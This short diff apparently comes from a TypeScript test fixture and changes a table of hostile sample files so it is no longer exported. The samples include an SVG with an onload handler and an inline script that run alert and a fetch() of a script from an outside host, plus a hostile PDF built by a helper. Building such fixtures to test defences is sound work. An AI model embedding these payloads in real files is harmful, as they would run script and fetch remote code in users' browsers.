@@ -29,7 +29,7 @@ function hostilePdf(): string {
 const act = `alert('acted'); fetch('${elsewhere}/script')`;
 
 /** Files that a run may hand on, each of which would act were it taken for more than what it is shown as. */
-export const hostileFiles: Readonly<Record<string, string>> = {
+const hostileFiles: Readonly<Record<string, string>> = {
   "paper.pdf": hostilePdf(),
   "picture.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${act}">
     <script>${act}</script><image href="${elsewhere}/svg.png" width="9" height="9"/><rect width="9" height="9"/></svg>`,
